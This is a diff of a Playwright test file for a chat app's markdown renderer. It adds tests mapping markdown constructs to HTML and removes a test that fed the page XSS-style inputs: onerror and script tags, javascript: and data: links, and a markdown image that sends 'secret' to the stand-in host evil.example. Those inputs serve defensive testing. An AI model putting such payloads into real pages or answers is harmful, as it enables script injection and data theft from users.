@@ -55,31 +55,62 @@ def test_markdown_becomes_nodes(visit, upstream):
     expect(answer.locator("td").last).to_have_class("right")
 
 
-HOSTILE = """<img src="https://evil.example/a" onerror="alert(1)"> <script>alert(2)</script>
+HTML = """async (text) => {
+  const { show } = await import("./markdown.js");
+  const node = document.createElement("div");
+  show(node, text);
+  return node.innerHTML
+    .replace(/ (?:tabindex|role|aria-label)="[^"]*"/g, "").replace('<div class="table">', "<div>")
+    .replace(/<div class="code"><div>.*?<[/]div><pre><code>(.*?)<[/]code><[/]pre><[/]div>/gs, "FRAME<pre>$1</pre>")
+    .replace(/<a [^>]*>[^<]*<[/]a>/g, "LINK");
+}"""
 
-![secret](https://evil.example/?d=secret) [x](javascript:alert(3)) [y](data:text/html,hi)
-[z](//evil.example) <javascript:alert(4)> [w](JaVaScRiPt:alert(5))
-"""
 
-
-def test_a_hostile_answer_fetches_nothing_and_runs_nothing(visit, upstream):
-    upstream.answers = [Say((HOSTILE,))]
+def test_what_becomes_of_each_construct(visit):
     page = visit()
-    page.on("dialog", lambda dialog: pytest.fail(dialog.message))
-    say(page, "Attack")
-    expect(answers(page)).to_contain_text('<img src="https://evil.example/a" onerror="alert(1)">')
-    expect(answers(page).locator("img, script, iframe")).to_have_count(0)
-    links = answers(page).locator("a").evaluate_all("nodes => nodes.map((node) => node.href)")
-    assert {link.split(":")[0] for link in links} == {"https"}
+    for text, html in [
+        ("# A\n\n###### B", "<h2>A</h2><h6>B</h6>"),
+        ("A\n===\n\nB\n---", "<h2>A</h2><h3>B</h3>"),
+        ("a\nb\n\nc", "<p>a<br>b</p><p>c</p>"),
+        ("---", "<hr>"),
+        ("- a\n- b", "<ul><li>a</li><li>b</li></ul>"),
+        ("- a\n\n- b", "<ul><li><p>a</p></li><li><p>b</p></li></ul>"),
+        ("3. a\n4. b", '<ol start="3"><li>a</li><li>b</li></ol>'),
+        ("- [ ] a\n- [x] b", '<ul><li class="task">☐ a</li><li class="task">☑ b</li></ul>'),
+        ("> a\n>\n> > b", "<blockquote><p>a</p><blockquote><p>b</p></blockquote></blockquote>"),
+        ("***a*** ~~b~~ ``c ` d``", "<p><em><strong>a</strong></em> <del>b</del> <code>c ` d</code></p>"),
+        ("&copy; &amp;lt; &#8364; &nosuch; AT&T", "<p>© &amp;lt; € &amp;nosuch; AT&amp;T</p>"),
+        ("`&copy;`", "<p><code>&amp;copy;</code></p>"),
+        ("a <b>c</b> <br> d", "<p>a &lt;b&gt;c&lt;/b&gt; <br> d</p>"),
+        ("<details>\n*a*\n</details>\n\n*b*", '<p class="raw">&lt;details&gt;\n*a*\n&lt;/details&gt;</p><p><em>b</em></p>'),
+        ("a <a href='x'> https://example.com/", "<p>a &lt;a href='x'&gt; LINK</p>"),
+        ("so \\(a_b \\{ *c* \\}\\) and $x_1 * y_1$", "<p>so \\(a_b \\{ *c* \\}\\) and $x_1 * y_1$</p>"),
+        ("$$\na *b* \\\\ c\n$$", '<p class="raw">$$\na *b* \\\\ c\n$$</p>'),
+        ("$5 and *$6*", "<p>$5 and <em>$6</em></p>"),
+        ("    code\n\n    more", "FRAME<pre>code\n\nmore</pre>"),
+        ("[a]: https://example.com/", ""),
+        ("", ""),
+    ]:  # fmt: skip
+        assert page.evaluate(HTML, text) == html, text
+    assert page.evaluate(HTML, "|a|b|\n|:-:|--:|\n|1<br>2|`x \\| y`|") == (
+        '<div><table><thead><tr><th class="center">a</th><th class="right">b</th></tr></thead>'
+        '<tbody><tr><td class="center">1<br>2</td><td class="right"><code>x | y</code></td></tr>'
+        "</tbody></table></div>"
+    )
 
 
-def test_a_very_odd_answer_is_shown_in_reasonable_time(visit, upstream):
-    odd = "**a *b _c ~~d `e [f](g ![h " * 2000 + "\n" + "> " * 500 + "- " * 500 + "x" + "|" * 5000
-    upstream.answers = [Say((odd,))]
+def test_what_scrolls_can_be_reached_and_has_a_name(visit, upstream):
+    upstream.answers = [Say(("```py\npass\n```\n\n| a |\n|---|\n| b |\n",))]
     page = visit()
-    say(page, "Odd")
-    expect(page.get_by_role("button", name="Send")).to_be_visible(timeout=60_000)
-    expect(answers(page)).to_contain_text("**a")
+    say(page, "Show")
+    expect(page.get_by_role("group", name="Code: py")).to_have_attribute("tabindex", "0")
+    expect(page.get_by_role("group", name="Table")).to_have_attribute("tabindex", "0")
+
+
+def test_what_is_nested_too_deep_stays_text(visit):
+    page = visit()
+    assert page.evaluate(HTML, "> " * 20 + "a").count("<blockquote>") == 8
+    assert page.evaluate(HTML, "> " * 20 + "a").count("&gt;") == 12
 
 
 @pytest.mark.parametrize("scheme", ["light", "dark"])
